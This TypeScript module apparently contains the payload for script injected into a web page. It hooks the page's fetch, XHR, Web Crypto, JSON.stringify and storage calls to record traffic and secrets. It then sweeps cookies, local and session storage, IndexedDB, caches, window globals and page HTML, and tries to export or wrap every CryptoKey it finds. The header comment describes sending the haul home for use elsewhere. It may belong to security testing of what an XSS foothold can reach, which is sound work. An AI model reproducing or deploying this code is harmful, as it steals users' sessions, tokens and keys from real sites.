/**
 * What script can do that got into a page. Both functions run there, so they stand on their own. They read and send
 * home; whatever comes of it is tried from another machine.
 */

/** One request of the page's, as it left. */
export type Overheard = { method: string; url: string; headers: [string, string][]; body: string }

export type Loot = {
  /** Every text that was to be found, wherever it was. */
  texts: string[]
  overheard: Overheard[]
  /** What was done to keys, and how it ended. */
  keys: string[]
}

declare global {
  interface Window {
    loot: Loot
  }
}

/** Before anything of the page runs: everything that it says and hears from now on is written down. */
export function plant(): void {
  const loot: Loot = { texts: [], overheard: [], keys: [] }
  window.loot = loot
  const real = window.fetch.bind(window)
  window.fetch = async (input, init) => {
    const request = new Request(input, init)
    const copy = request.clone()
    const body = await copy.text()
    loot.overheard.push({ method: copy.method, url: copy.url, headers: [...copy.headers], body })
    const response = await real(request)
    loot.texts.push(await response.clone().text(), ...[...response.headers].map(([, value]) => value))
    return response
  }
  const { open } = XMLHttpRequest.prototype
  XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...given: unknown[]) {
    this.addEventListener('load', () => void loot.texts.push(String(this.responseText)))
    return Reflect.apply(open, this, given)
  }
  // Whatever the page hands to cryptography, or writes down as text, passes through here.
  const { sign, digest, generateKey } = SubtleCrypto.prototype
  const note = (data: BufferSource) => loot.texts.push(new TextDecoder().decode(data))
  SubtleCrypto.prototype.sign = function (algorithm, key, data) {
    note(data)
    return sign.call(this, algorithm, key, data)
  }
  SubtleCrypto.prototype.digest = function (algorithm, data) {
    note(data)
    return digest.call(this, algorithm, data)
  }
  SubtleCrypto.prototype.generateKey = function (this: SubtleCrypto, ...given: unknown[]) {
    loot.keys.push('saw a key being made')
    return Reflect.apply(generateKey, this, given)
  } as SubtleCrypto['generateKey']
  const { stringify } = JSON
  JSON.stringify = ((...given: Parameters<typeof stringify>) => {
    const text = stringify(...given)
    if (typeof text === 'string') loot.texts.push(text)
    return text
  }) as typeof stringify
  for (const name of ['localStorage', 'sessionStorage'] as const) {
    const { setItem } = Object.getPrototypeOf(window[name])
    Object.getPrototypeOf(window[name]).setItem = function (key: string, value: string) {
      loot.texts.push(value)
      return setItem.call(this, key, value)
    }
  }
}

/** Reads all that the page can read, tries to take out every key, and hands over the lot. */
export async function gather(): Promise<Loot> {
  const { loot } = window
  const seen = new Set<unknown>()
  const formats = ['jwk', 'pkcs8', 'raw', 'spki'] as const

  async function tryKey(key: CryptoKey): Promise<void> {
    for (const format of formats) {
      const outcome = await crypto.subtle.exportKey(format, key).then(
        (bytes) => `taken: ${JSON.stringify(bytes)}`,
        ({ name }: Error) => name,
      )
      loot.keys.push(`${key.type} ${format} ${outcome}`)
    }
    const wrapper = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['wrapKey'])
    const algorithm = { name: 'AES-GCM', iv: new Uint8Array(12) }
    const wrapped = await crypto.subtle.wrapKey('jwk', key, wrapper, algorithm).then(
      () => 'taken',
      ({ name }: Error) => name,
    )
    loot.keys.push(`${key.type} wrapped ${wrapped}`)
    loot.keys.push(`${key.type} as JSON ${JSON.stringify(key)}`)
  }

  async function walk(value: unknown, depth: number): Promise<void> {
    if (typeof value === 'string') loot.texts.push(value)
    if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return
    if (depth > 6 || seen.has(value) || value === loot) return
    seen.add(value)
    if (value instanceof CryptoKey) return tryKey(value)
    if (typeof value === 'function') loot.texts.push(String(value))
    if (value instanceof Node) return
    for (const name of Object.getOwnPropertyNames(value)) {
      const descriptor = Object.getOwnPropertyDescriptor(value, name)
      await walk(descriptor?.value, depth + 1)
    }
  }

  async function databases(): Promise<void> {
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await promised(indexedDB.open(name))
      for (const table of database.objectStoreNames) {
        const store = database.transaction(table).objectStore(table)
        await walk(await promised(store.getAllKeys()), 0)
        await walk(await promised(database.transaction(table).objectStore(table).getAll()), 0)
      }
      database.close()
    }
  }

  function promised<Found>(request: IDBRequest<Found>): Promise<Found> {
    return new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
  }

  async function cached(): Promise<void> {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      for (const request of await cache.keys()) {
        loot.texts.push(request.url, (await (await cache.match(request))?.text()) ?? '')
      }
    }
  }

  for (const storage of [localStorage, sessionStorage]) await walk({ ...storage }, 0)
  loot.texts.push(document.cookie, document.documentElement.outerHTML, location.href, window.name)
  loot.texts.push(...performance.getEntries().map(({ name }) => name))
  await walk(history.state, 0)
  await databases()
  await cached()
  for (const name of Object.getOwnPropertyNames(window)) {
    const descriptor = Object.getOwnPropertyDescriptor(window, name)
    if (descriptor !== undefined && 'value' in descriptor) await walk(descriptor.value, 1)
  }
  return loot
}
